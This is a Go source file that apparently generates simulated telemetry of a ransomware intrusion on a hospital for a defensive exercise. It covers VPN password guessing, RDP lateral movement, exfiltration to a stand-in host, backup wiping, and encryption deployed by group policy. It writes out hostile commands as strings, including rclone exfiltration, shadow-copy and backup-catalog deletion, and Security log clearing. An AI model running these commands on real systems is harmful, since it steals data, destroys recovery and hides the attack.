// SPDX-FileCopyrightText: 2026 The Citywall Authors
// SPDX-License-Identifier: Apache-2.0

package exercise

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"

	"citywall/exercise/act"
	"citywall/exercise/city"
)

// hospital is an intrusion of the kind Taiwanese hospitals met in 2025: a weak
// account at the VPN, a machine where an administrator had left his credentials
// (the vendors' terminal server, or a desk), the domain controller, antivirus
// ended by a signed driver, and a group policy that gives every machine a task
// to encrypt itself in the night.
//
//	outside --vpn--> pool address --rdp--> entry --c2--> outside
//	entry --rdp--> hos-dc01     --gpo--> many
//	entry --service--> hos-fs01 --exfiltration--> outside
//	hos-dc01 --winrm--> hos-bak01
func hospital(g *stage) {
	c, s, h := g.c, g.s, g.c.Hospital
	vendor, ts := weakness(c, g.seed)
	admin := h.Domain.Admins[0]
	dc, fs, bak := h.Domain.DCs[0], h.File, h.Backup
	caller := act.End{Addr: g.outsider()}
	inner := act.End{Addr: netip.AddrFrom4([4]byte{10, 254, 3, byte(40 + g.r.IntN(150))})}
	ch := g.newChannel()
	vault := act.End{Addr: g.outsider()}
	k := kit{"." + g.word(6), "Decryption Instructions.txt"}
	if g.r.IntN(2) == 0 {
		k = kit{".hunter", "README_RESTORE.txt"}
	}
	implant := fmt.Sprintf(`C:\Users\Public\Libraries\%s.exe`, g.word(6))
	remote := act.Remote{Account: admin, Src: act.On(ts)}
	finale := g.begin.Add(g.dwell)

	// The way in: passwords tried at the gateway, then the one that fits.
	for i := range 9 + g.r.IntN(8) {
		user := []string{"admin", "test", "pacs", "ris", vendor.Name, "backup", "vpnuser"}[g.r.IntN(7)]
		g.at(g.begin.Add(-time.Duration(25*60-i*70)*time.Second), func(r *rand.Rand, t time.Time) { s.VPNRefused(r, t, user, caller.Addr) })
	}
	tunnel := act.Tunnel{User: vendor, Remote: caller.Addr, Inner: inner.Addr}
	g.at(g.begin, func(r *rand.Rand, t time.Time) {
		plain := &city.Account{Domain: &city.Domain{}, Name: vendor.Name} // the gateway knows no domain
		g.hop(s.VPNUp(r, t, &tunnel), caller, inner, 0, plain, "vpn", "T1133")
		g.used(vendor)
		s.VPNDown(finale.Add(4*time.Minute), &tunnel, finale.Sub(t), 390_000_000, 61_000_000)
	})
	var in act.Actor // on the terminal server
	g.at(g.begin.Add(seconds(60+60*g.r.Float64())), func(r *rand.Rand, t time.Time) {
		var seen act.Seen
		in, seen = s.RDP(r, t, act.Remote{Account: vendor, Src: inner, Dst: ts, Station: "WIN-" + "K7Q2M9TV4H1", For: finale.Sub(t)})
		g.hop(seen, inner, act.On(ts), 3389, vendor, "rdp", "T1021.001")
		g.own(seen, ts)
		g.entry(seen, TruthEntry{Host: ts.Key(), Addr: ts.Addr, Kind: "vpn", Vector: vendor.String(), External: caller.Addr})
	})

	// At home on the first machine.
	var shell act.Proc
	g.at(g.when(0.03), func(r *rand.Rand, t time.Time) {
		shell, _ = s.Start(r, t, in, act.Running(in, act.Explorer), act.Cmd, `"C:\Windows\system32\cmd.exe"`)
		g.look(r, t.Add(4*time.Second), in, shell, "whoami /all", "ipconfig /all", "net group \"Domain Admins\" /domain", "nltest /dclist:hosp.example", "quser", "net view /domain")
	})
	var agent act.Proc
	called := g.when(0.05)
	g.at(called.Add(-20*time.Second), func(r *rand.Rand, t time.Time) {
		s.File(r, t, act.Running(in, act.Explorer), implant)
		var seen act.Seen
		agent, seen = s.Start(r, t.Add(8*time.Second), in, shell, implant, implant)
		g.step(seen, ts, "execution", "T1204.002")
	})
	g.beacon(called, finale.Add(3*time.Minute), ts, ch, &agent)
	g.at(g.when(0.10), func(r *rand.Rand, t time.Time) {
		g.knock(r, t, ts, append(append([]*city.Host{}, h.Servers...), h.PCs[:min(10, len(h.PCs))]...), 445, 3389, 5985, 135)
	})
	g.at(g.when(0.18), func(r *rand.Rand, t time.Time) { g.dump(r, t, in, agent) })

	// The domain controller, with what the memory held.
	var onDC act.Actor
	g.at(g.when(0.28), func(r *rand.Rand, t time.Time) {
		m := remote
		m.Dst, m.By, m.For = dc, in, finale.Sub(t)-time.Minute
		var seen act.Seen
		onDC, seen = s.RDP(r, t, m)
		g.hop(seen, act.On(ts), act.On(dc), 3389, admin, "rdp", "T1021.001")
		g.own(seen, dc)
		g.used(admin)
	})
	var dcShell act.Proc
	g.at(g.when(0.31), func(r *rand.Rand, t time.Time) {
		dcShell, _ = s.Start(r, t, onDC, act.Running(onDC, act.Explorer), act.Cmd, `"C:\Windows\system32\cmd.exe"`)
		g.look(r, t.Add(3*time.Second), onDC, dcShell, "whoami /groups", "dsquery computer -limit 0", "net group \"Domain Computers\" /domain")
	})

	// The file server: copied out before it is locked.
	var onFS act.Proc
	g.at(g.when(0.36), func(r *rand.Rand, t time.Time) {
		m := remote
		m.Dst, m.By = fs, act.Actor{Account: vendor, Host: ts, Logon: in.Logon}
		var seen act.Seen
		onFS, seen = s.RemoteService(r, t, m, "UpdHostSvc", "updhost.exe", "", 1_900_000)
		g.hop(seen, act.On(ts), act.On(fs), 445, admin, "service", "T1569.002")
		g.own(seen, fs)
	})
	g.at(g.when(0.40), func(r *rand.Rand, t time.Time) { g.exfiltrate(r, t, onFS, vault) })

	// The backup server: what could bring everything back.
	wiped := g.when(0.60)
	g.fell[bak] = wiped.Add(20 * time.Second)
	g.at(wiped, func(r *rand.Rand, t time.Time) {
		var seen act.Seen
		m := act.Remote{Account: admin, Src: act.On(dc), Dst: bak, By: onDC, For: 4 * time.Minute}
		_, seen = g.wipeBackup(r, t, m)
		g.hop(seen, act.On(dc), act.On(bak), 5985, admin, "winrm", "T1021.006")
		g.own(seen, bak)
	})

	// Blind, then the policy.
	g.at(g.when(0.70), func(r *rand.Rand, t time.Time) { g.blind(r, t, onDC, dcShell) })
	g.at(g.when(0.72), func(r *rand.Rand, t time.Time) { g.blind(r, t, act.System(fs), onFS) })
	pol := act.Policy{Domain: h.Domain, GUID: fmt.Sprintf("{%08X-9A41-4C77-B1D0-%012X}", g.r.Uint32(), g.r.Uint64N(1<<48)), Version: 3}
	const taskFile = `Machine\Preferences\ScheduledTasks\ScheduledTasks.xml`
	edited := g.when(0.76)
	payload := `\\hosp.example\NETLOGON\go.exe`
	g.at(edited, func(r *rand.Rand, t time.Time) {
		s.File(r, t, act.Running(onDC, act.Explorer), `C:\Windows\SYSVOL\sysvol\hosp.example\scripts\go.exe`)
		seen := s.EditPolicy(r, t.Add(20*time.Second), onDC, dc, pol, taskFile, "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}][{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]")
		g.step(seen, dc, "persistence", "T1484.001")
	})
	task := "SystemHealthCheck"
	for _, x := range g.victims(ts) {
		applied := edited.Add(2*time.Minute + time.Duration(g.r.Float64()*0.85*float64(finale.Sub(edited)-3*time.Minute)))
		files := 70 + g.r.IntN(60)
		starts := finale.Add(seconds(40 * g.r.Float64()))
		dirs := desktop(x)
		if x.Owner == nil {
			dirs, files = volumes(x), 2*files
		}
		g.fell[x] = starts
		g.at(applied, func(r *rand.Rand, t time.Time) {
			s.Refresh(r, t, x, `hosp.example\Policies\`+pol.GUID+`\gpt.ini`, `hosp.example\Policies\`+pol.GUID+`\`+taskFile)
			seen := s.ImmediateTask(r, t.Add(seconds(2+4*r.Float64())), x, task, payload, "", `HOSP\`+admin.Name)
			g.hop(seen, act.On(dc), act.On(x), 0, nil, "gpo", "T1484.001")
			g.own(seen, x)
		})
		g.at(starts, func(r *rand.Rand, t time.Time) {
			p := s.RunTask(r, t, x, task, payload, payload)
			g.encrypt(r, t.Add(2*time.Second), p, k, files, dirs)
		})
	}
	g.fell[fs] = finale.Add(30 * time.Second)
	g.at(g.fell[fs], func(r *rand.Rand, t time.Time) {
		p, _ := s.Start(r, t, act.System(fs), onFS, `C:\Windows\Temp\go.exe`, `C:\Windows\Temp\go.exe -path D:\`)
		g.encrypt(r, t.Add(time.Second), p, k, 400, volumes(fs))
	})
	g.at(finale.Add(5*time.Minute), func(r *rand.Rand, t time.Time) {
		s.Start(r, t, onDC, dcShell, `C:\Windows\System32\wevtutil.exe`, "wevtutil  cl Security")
		g.step(s.ClearLog(r, t.Add(400*time.Millisecond), onDC), dc, "evasion", "T1070.001")
	})
}

// vendorOf returns the maintenance company's account of a city.
func vendorOf(c *city.City) *city.Account { return c.NewVendor("v-ris", 1999) }

// weakness is the account whose password is weak, and the machine it leads to,
// on which an administrator works every day: for two seeds in three the
// vendors' terminal server, else somebody's desk. It is so whether anybody
// makes use of it or not.
func weakness(c *city.City, seed uint64) (*city.Account, *city.Host) {
	r := rand.New(rand.NewPCG(seed, 0x3eac))
	if r.IntN(3) == 0 {
		for range 50 {
			a := c.Hospital.People[r.IntN(len(c.Hospital.People))]
			admin := a == c.Hospital.Domain.Admins[0].Self || a == c.Hospital.Domain.Admins[1].Self
			if a.Shift == city.Office && a.Home.Always && a.Home.Sysmon && !admin {
				return a, a.Home
			}
		}
	}
	return vendorOf(c), c.Srv.Terminal
}

// victims are the machines of the hospital that the policy reaches: those that
// are on at night, up to a few hundred, and four servers. The second domain
// controller, the backup server and the jump host are in another part of the
// directory.
func (g *stage) victims(entry *city.Host) []*city.Host {
	var pcs []*city.Host
	for _, h := range sysmonHosts(g.c.Hospital.PCs) {
		if h.Always && h != entry {
			pcs = append(pcs, h)
		}
	}
	g.r.Shuffle(len(pcs), func(i, j int) { pcs[i], pcs[j] = pcs[j], pcs[i] })
	pcs = pcs[:min(len(pcs), 40+len(pcs)/4, 300)]
	var out []*city.Host
	for _, h := range g.c.Hospital.Servers {
		switch h.Key() {
		case "hos-his01", "hos-lis01", "hos-pacs01", "hos-print01":
			out = append(out, h)
		}
	}
	return append(out, pcs...)
}

// exfiltrate sends a file server's data to an outside address with a copying
// tool.
func (g *stage) exfiltrate(r *rand.Rand, t time.Time, p act.Proc, vault act.End) {
	h := p.Host
	tool := `C:\ProgramData\Temp\rclone.exe`
	g.s.File(r, t, p, tool)
	copying, seen := g.s.Start(r, t.Add(4*time.Second), act.System(h), p, tool, `C:\ProgramData\Temp\rclone.exe copy D:\Share remote:backup --transfers 8 --no-check-certificate`)
	g.step(seen, h, "exfiltration", "T1567.002")
	t = t.Add(9 * time.Second)
	name := "files." + []string{"sharebox", "upspace", "dropnest"}[r.IntN(3)] + ".example"
	g.s.Resolve(r, t, h, name, vault.Addr)
	g.s.Asked(r, t, copying, name, vault.Addr)
	t = t.Add(60 * time.Millisecond)
	for i := range 3 + r.IntN(4) {
		_, seen := g.s.TLS(r, t.Add(time.Duration(i)*7*time.Second), act.Conn{Src: act.On(h), Dst: vault, Name: name, Out: 1_500_000_000 + r.Int64N(3_500_000_000), In: 9_000_000 + r.Int64N(4_000_000), For: time.Duration(14+r.IntN(20)) * time.Minute, By: &copying})
		g.hop(seen, act.On(h), vault, 443, nil, "exfiltration", "T1567.002")
	}
}

// wipeBackup reaches a backup server by WinRM and destroys what it keeps.
func (g *stage) wipeBackup(r *rand.Rand, t time.Time, m act.Remote) (act.Proc, act.Seen) {
	host, seen := g.s.RemoteShell(r, t, m)
	shell, _ := g.s.Start(r, t.Add(20*time.Second), host.Actor, host, act.Cmd, `"C:\Windows\system32\cmd.exe" /c net stop "Veeam Backup Service" /y`)
	g.s.Start(r, t.Add(20200*time.Millisecond), host.Actor, shell, `C:\Windows\System32\net.exe`, `net  stop "Veeam Backup Service" /y`)
	g.s.ServiceState(r, t.Add(24*time.Second), m.Dst, "Veeam Backup Service", "stopped")
	_, wiped := g.s.Start(r, t.Add(31*time.Second), host.Actor, host, `C:\Windows\System32\wbadmin.exe`, `wbadmin.exe delete catalog -quiet`)
	g.s.Start(r, t.Add(36*time.Second), host.Actor, host, `C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`)
	for i := range 6 {
		g.s.Delete(r, t.Add(time.Duration(50+3*i)*time.Second), host, fmt.Sprintf(`E:\Vault\full-%d.vbk`, 20260101+i))
	}
	g.step(wiped, m.Dst, "inhibit", "T1490")
	return host, seen
}
